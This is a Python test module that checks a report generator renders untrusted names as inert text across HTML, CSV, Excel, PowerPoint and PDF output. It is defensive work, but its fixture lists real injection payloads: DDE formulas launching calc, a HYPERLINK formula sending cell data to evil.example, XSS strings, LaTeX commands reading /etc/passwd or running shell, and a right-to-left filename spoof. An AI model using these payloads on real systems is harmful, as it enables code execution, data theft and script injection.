r"""Names that data brings are text in every file of a report: no formula, no markup, no script, no command, no mathematics.

Names of products, segments, arms and owners come from whoever filled in a form. Each of these is put into titles, labels,
sentences, owners, figures and tables, and each file is then read with a library that did not write it.
"""

from __future__ import annotations

import csv
import re
import unicodedata
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pandas as pd
import pptx
import pypdf
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from cxvalue.findings.display import folded, sentences, styled
from cxvalue.findings.finding import Finding, write_findings
from cxvalue.foundation.inert import inert_table
from cxvalue.report.html import render_page
from cxvalue.report.notebook_html import notebook_html
from cxvalue.report.paper_model import ReportModel
from cxvalue.report.render.papers import make_papers
from tests.report.conftest import published_in
from tests.report.pages import assert_self_contained, read_page

NAMES = {
    "formula": "=cmd|'/C calc'!A0",
    "link": '=HYPERLINK("http://evil.example/"&A1,"pay")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "script": "<script>alert(1)</script>",
    "picture": "<img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)',
    "entity": "&lt;b&gt;&#x3c;b&#62;",
    "template": "{{ 7 * 7 }}{% raw %}{name}",
    "latex": r"\input{/etc/passwd} \write18{id} $$x$$",
    "typst": '#import "@preview/x:1" #panic("x") #sys.inputs',
    "emphasis": "_x_ *y* `z` ~s~ ^t^",
    "mathematics": r"$x$ and $\frac$",
    "escape": "a_x0041_b_x005F_",
    "markdown": "[pay](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "right to left": "gold\u202egnp.exe",
    "arabic": "\u0645\u0631\u062d\u0628\u0627 gold",
    "long": "long" * 500,
    "quotes": 'O\'Neill "& sons", Ltd; a\\b',
}
BROKEN = {"nul": "a\x00b", "bell": "a\x07b\x1b[31m", "lines": "first\r\nsecond\u2028third", "half": "a\ufffeb"}
"""Letters that no file may hold: what is written of the name may lack them."""
FORMULA_STARTS = ("=", "@", "+", "\t", "\r")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report in which every name stands everywhere: page, papers, findings, tables, and a notebook's page."""
    folder, every = tmp_path_factory.mktemp("names"), [*NAMES.values(), *BROKEN.values()]
    made = published_in(folder, "en", title=NAMES["typst"], benefit=NAMES["link"])
    findings = [
        Finding(
            f"base.n{k}", f"Label {name}", 5.0, 4.0, 6.0, 0.95, "EUR", "C", f"{name} is worth 5.", f"{name}, counted"
        )
        for k, name in enumerate(every)
    ]
    write_findings(findings, folder)
    model = named(made.rebuilt(some=[*findings, *made.model.findings.values()]), every)
    (folder / "index.html").write_text(render_page(model.page), encoding="utf-8")
    assert make_papers(model, folder).missing == ()
    table = pd.DataFrame({"segment": every, NAMES["formula"]: [NAMES["link"], *every[1:]]})
    inert_table(table).to_csv(folder / "table.csv", index=False)
    seen = [sentences(findings), styled(table.to_dict("records")), folded(NAMES["script"], styled([{"a": 1}]))]
    outputs = [new_output("display_data", data={"text/html": one._repr_html_()}) for one in seen]
    outputs += [new_output("stream", name="stdout", text="\n".join(every))]
    notebook = new_notebook(cells=[new_markdown_cell("# A notebook"), new_code_cell("x", outputs=outputs)])
    (folder / "notebook.html").write_text(notebook_html(notebook, NAMES["script"]), encoding="utf-8")
    return folder


def named(model: ReportModel, names: list[str]) -> ReportModel:
    """The model with the names as owners and sources, steps of charts, points and notes of slides."""
    (case,) = model.cases
    pairs = zip(case.assumptions, names[::2], names[1::2], strict=False)
    rows = [replace(row, owner=owner, source=source) for row, owner, source in pairs]
    rows += case.assumptions[len(rows) :]
    slides = []
    for slide in model.slides:
        chart = slide.chart
        if chart is not None:
            chart = replace(chart, categories=tuple((names * 99)[: len(chart.categories)]), told=NAMES["attribute"])
        slides.append(replace(slide, chart=chart, notes=tuple(names), points=(*slide.points, NAMES["formula"])))
    return replace(model, cases=(replace(case, assumptions=tuple(rows)),), slides=tuple(slides))


def told(text: str) -> str:
    """A text without blanks, marks of direction and letters that no file may hold."""
    kept = (letter for letter in text if unicodedata.category(letter) not in ("Cc", "Cf", "Cn", "Zs", "Zl", "Zp"))
    return "".join(kept)


@pytest.mark.parametrize("page", ["index.html", "notebook.html"])
def test_pages_hold_names_as_text(folder: Path, page: str) -> None:
    found = assert_self_contained((folder / page).read_text(encoding="utf-8"))
    said = told("".join(found.text))
    assert [name for name, text in NAMES.items() if told(text) not in said] == []
    assert not [image for image in found.images if image.get("src") == "x"]


def test_a_table_that_is_opened_by_hand_holds_names_as_text() -> None:
    found = read_page(styled([{NAMES["script"]: NAMES["picture"]}])._repr_html_())
    assert {NAMES["script"], NAMES["picture"]} <= {text.strip() for text in found.text}
    assert not {"script", "img"} & set(found.tags)


@pytest.mark.parametrize("name", ["findings.csv", "table.csv"])
def test_spreadsheets_run_nothing(folder: Path, name: str) -> None:
    with (folder / name).open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert [key for key, text in NAMES.items() if not any(text in cell for cell in cells)] == []


def books(folder: Path) -> Iterator[tuple[str, Any]]:
    """The workbook, and those inside the slides."""
    yield "case.xlsx", openpyxl.load_workbook(folder / "case.xlsx")
    with zipfile.ZipFile(folder / "deck.pptx") as parts:
        for name in parts.namelist():
            if name.endswith(".xlsx"):
                yield name, openpyxl.load_workbook(BytesIO(parts.read(name)))


def test_workbooks_calculate_only_what_the_product_wrote(folder: Path) -> None:
    texts, checked = [], 0
    for name, book in books(folder):
        checked += 1
        for cell in (cell for sheet in book for row in sheet.iter_rows() for cell in row):
            assert cell.hyperlink is None
            if cell.data_type == "f":
                assert not re.search(r"cmd|HYPERLINK|evil|DDE", str(cell.value)), name
            elif isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_STARTS), name
                texts.append(told(cell.value))
    assert checked > 3
    said = " ".join(texts).replace("_x005F_", "_")  # how such files write a _ that begins what looks like an escape
    assert [
        key for key, text in NAMES.items() if key != "long" and told(text).replace("_x005F_", "_") not in said
    ] == []


def test_slides_hold_names_as_text(folder: Path) -> None:
    said = []
    for slide in pptx.Presentation(str(folder / "deck.pptx")).slides:
        said.append(slide.notes_slide.notes_text_frame.text)
        said += [shape.text_frame.text for shape in slide.shapes if shape.has_text_frame]
    whole = told(" ".join(said))
    assert [key for key, text in NAMES.items() if told(text) not in whole] == []


@pytest.mark.parametrize("paper", ["deck.pptx", "case.xlsx"])
def test_parts_of_office_files_are_sound_and_lead_nowhere(folder: Path, paper: str) -> None:
    with zipfile.ZipFile(folder / paper) as parts:
        for name in parts.namelist():
            if name.endswith((".xml", ".rels")):
                root = ElementTree.fromstring(parts.read(name))
                outside = [one.get("Target") for one in root.iter() if one.get("TargetMode") == "External"]
                assert outside == [], name
            assert "vba" not in name.lower()


def test_the_pdf_holds_names_as_text_and_does_nothing(folder: Path) -> None:
    found = pypdf.PdfReader(folder / "report.pdf")
    said = told("".join(page.extract_text() for page in found.pages))
    shown = {key: text for key, text in NAMES.items() if key not in ("arabic", "right to left", "long")}
    assert [key for key, text in shown.items() if told(text) not in said] == []
    raw = b"".join(str(found.get_object(number)).encode() for number in range(1, len(found.xref_objStm) + 1))
    assert not re.search(rb"/(JavaScript|JS|Launch|SubmitForm|EmbeddedFile|OpenAction)\b", raw)
